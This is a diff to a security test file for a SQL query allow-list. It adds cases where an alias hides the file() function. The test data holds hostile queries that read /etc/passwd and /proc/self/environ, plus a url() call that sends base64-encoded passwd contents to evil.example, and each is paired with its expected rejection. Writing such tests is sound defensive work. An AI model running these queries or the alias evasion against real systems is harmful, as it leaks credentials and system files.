@@ -91,6 +91,9 @@ def test_token_file_is_private(api):
     ("SELECT * FROM file('/etc/passwd', 'LineAsString')", "table functions are not allowed: file()"),
     ("SELECT * FROM file('/proc/self/environ', 'LineAsString')", "table functions are not allowed: file()"),
     ("SELECT file('/proc/self/environ')", "function file() is not allowed"),
+    # an alias used to hide the function's name from the allow-list (the file was read)
+    ("SELECT file('/proc/self/environ') AS e", "function file() is not allowed"),
+    ("SELECT length(file('/etc/passwd') AS p)", "function file() is not allowed"),
     ("SELECT * FROM url('http://127.0.0.1:9/x', 'CSV')", "table functions are not allowed: url()"),
     ("SELECT * FROM url(concat('http://evil.example/?', base64Encode(file('/etc/passwd'))), 'CSV')",
      "table functions are not allowed: url()"),
